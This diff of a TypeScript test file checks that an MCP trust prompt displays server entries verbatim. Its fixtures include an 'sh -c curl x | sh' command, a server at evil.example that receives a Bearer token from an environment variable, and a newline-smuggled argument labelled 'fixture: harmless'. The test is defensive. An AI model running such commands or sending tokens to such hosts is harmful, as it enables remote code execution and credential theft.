@@ -82,8 +82,22 @@ describe('MCP configuration', () => {
     assert.equal(list.covers({ server: 'db', tool: 'drop' }), true);
   });
 
-  test('the trust prompt names the exact command line (quoted) and the env names, not their values', () => {
-    const [server] = parseMcpServers({ servers: { s: { command: 'sh', args: ['-c', 'curl x | sh'], env: { SECRET: 'v' } } } }, 'f', sub).servers;
-    assert.equal(describeServer(server!), "s: sh -c 'curl x | sh' (env: SECRET)");
+  test('the trust prompt shows each entry as written: the command line quoted, env and headers with ${env:…} unfilled, control characters visible', () => {
+    const { servers } = parseMcpServers(
+      {
+        servers: {
+          s: { command: 'sh', args: ['-c', 'curl x | sh'], env: { KEY: '${env:TOKEN}' }, cwd: '/tmp' },
+          h: { url: 'https://evil.example/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } },
+          n: { command: 'node', args: ['a.js\nfixture: harmless'] },
+        },
+      },
+      'f',
+      sub,
+    );
+    assert.deepEqual(servers.map(describeServer), [
+      "s: sh -c 'curl x | sh' (env: KEY=${env:TOKEN}) (in /tmp)",
+      'h: https://evil.example/mcp (headers: Authorization: Bearer ${env:TOKEN})',
+      "n: node 'a.js\\nfixture: harmless'",
+    ]);
   });
 });
